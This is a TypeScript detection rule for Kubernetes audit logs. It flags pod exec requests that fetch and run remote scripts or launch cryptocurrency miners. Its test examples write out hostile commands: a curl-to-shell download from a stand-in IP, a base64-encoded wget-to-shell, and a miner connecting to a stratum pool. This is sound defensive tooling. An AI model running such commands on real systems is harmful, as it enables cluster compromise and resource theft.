import { findRunCommands } from '../../indicators/run-commands';
import { scanTexts } from '../../indicators/scan';
import type { AuditEvent } from '../../model/audit-event';
import type { Entity } from '../../model/entity';
import { isOwnIdentity } from '../../model/identity';
import { actorFacts } from '../actor-facts';
import { auditExample } from '../audit-example';
import type { Detector } from '../detector';
import { indicatorsOf, isConclusive } from '../mining-texts';

const STAGES = new Set(['ResponseStarted', 'ResponseComplete']);

const executing = (command: readonly string[], changes: Partial<AuditEvent> = {}): AuditEvent => {
  const query = new URLSearchParams({ container: 'app' });
  for (const word of command) query.append('command', word);
  return auditExample({
    verb: 'create',
    code: 101,
    requestUri: `/api/v1/namespaces/shop/pods/checkout-1/exec?${query.toString()}`,
    objectRef: { resource: 'pods', subresource: 'exec', apiGroup: '', namespace: 'shop', name: 'checkout-1', uid: '' },
    workload: undefined,
    ...changes,
  });
};

/**
 * Somebody ran a command in a pod that fetches and runs something, or that mines.
 *
 * Sees: the command in the address of the request, whether it came as create or, by WebSocket, as get, and whether the
 * stream has ended or only begun; encoded commands too.
 * Misses: what is typed into an interactive shell, and commands sent straight to a kubelet.
 */
export const maliciousExec: Detector<'audit'> = {
  id: 'KM-B02',
  version: 1,
  title: 'Command execution with fetch or miner content',
  source: 'audit',
  channel: 'API',
  weight: ['strong', 'conclusive'],
  severity: 'critical',
  status: 'stable',
  selects: [{ verbs: ['create', 'get'], resources: ['pods'], subresources: ['exec', 'attach'], wholeObject: false }],
  techniques: ['T1609', 'T1059.013'],
  references: ['https://attack.mitre.org/techniques/T1609/'],
  falsePositives: ['Administrators who install a debugging tool into a running container.'],
  triage: [
    'Ask the person behind the name (facts: actor, sourceIp) whether the command was theirs.',
    'Look at the processes of the pod now: what the command started may still run.',
  ],
  requires: { requestURI: 'without it nothing is seen' },
  examples: {
    matches: {
      'a download piped to a shell': executing(['sh', '-c', 'curl -s http://198.51.100.7/i.sh | sh']),
      'a miner by WebSocket, while it runs': executing(['./a', '-o', 'stratum+tcp://pool.example:3333'], {
        verb: 'get',
        stage: 'ResponseStarted',
      }),
      'an encoded command': executing(['sh', '-c', `echo ${btoa('wget -qO- 198.51.100.7 | sh')} | base64 -d | sh`]),
    },
    ignores: {
      'a shell': executing(['bash']),
      'a request to an internal address': executing(['curl', '-s', 'http://orders.shop:8080/healthz']),
      'a command that was refused': executing(['sh', '-c', 'curl -s http://198.51.100.7/i.sh | sh'], { code: 403 }),
      'a look at the pod': auditExample({
        verb: 'get',
        objectRef: { resource: 'pods', subresource: '', apiGroup: '', namespace: 'shop', name: 'checkout-1', uid: '' },
      }),
    },
  },

  detect(event) {
    const { stage, code, username, requestUri } = event;
    if (!STAGES.has(stage) || code >= 300 || isOwnIdentity(username)) return undefined;
    const query = queryOf(requestUri);
    const words = query.getAll('command');
    const scan = scanTexts([words.join(' '), words.join('')]);
    const ways = findRunCommands(scan.readings).map(({ way }) => way);
    const indicators = [...new Set([...indicatorsOf(scan), ...ways])];
    if (indicators.length === 0) return undefined;
    return {
      entity: podOf(event),
      indicators,
      weight: isConclusive(scan) ? 'conclusive' : 'strong',
      facts: actorFacts(event, { container: query.get('container') ?? '' }),
    };
  },
};

const queryOf = (requestUri: string): URLSearchParams => {
  const start = requestUri.indexOf('?');
  return new URLSearchParams(start === -1 ? '' : requestUri.slice(start + 1));
};

const podOf = ({ cluster, objectRef: { namespace, name, uid } }: AuditEvent): Entity => ({
  cluster,
  kind: 'Pod',
  namespace,
  name,
  ...(uid === '' ? {} : { uid }),
});
